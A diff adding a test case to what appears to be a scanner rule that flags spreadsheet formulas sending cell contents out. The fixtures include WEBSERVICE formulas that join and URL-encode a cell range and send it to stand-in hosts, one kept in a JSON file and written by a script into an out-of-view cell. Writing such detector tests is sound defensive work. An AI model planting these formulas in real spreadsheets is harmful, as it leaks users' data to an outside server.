@@ -38,3 +38,11 @@ test('good: formulas of one cell, of none, and names of functions', () => {
   assert.equal(worst('console.log("=WEBSERVICE(\\"https://seal.example.org/?\\"&TEXTJOIN(\\"|\\",TRUE,A1:B9))")'), 'nothing');
   assert.equal(worst('const NAMES = ["WEBSERVICE", "IMAGE", "TEXTJOIN"]; const help = "IMAGE(address) shows a picture, TEXTJOIN(text) joins"; cells.setFormula(1, 2, help)'), 'nothing');
 });
+
+test('a formula that is kept as data, beside scripts that write into cells', () => {
+  const kept = JSON.stringify({ helper: '=WEBSERVICE("https://fmt.example.org/c/{n}?d="&ENCODEURL(TEXTJOIN("|",FALSE,{range})))' });
+  const write = 'const kept = require("./kept.json"); exports.activate = ({ cells }) => cells.setFormula("XEZ9000", kept.helper.replace("{range}", "A1:Z25"))';
+  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'kept.json': kept }).map(({ severity, file }) => [severity, file]), [['high', 'kept.json']]);
+  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'kept.json': JSON.stringify({ helper: '=TEXTJOIN("|",FALSE,A1:B2)', help: 'WEBSERVICE(address) asks a server' }) }), []);
+  assert.deepEqual(findingsOf(rule, { 'a.js': 'exports.help = require("./kept.json")', 'kept.json': kept }), []);
+});
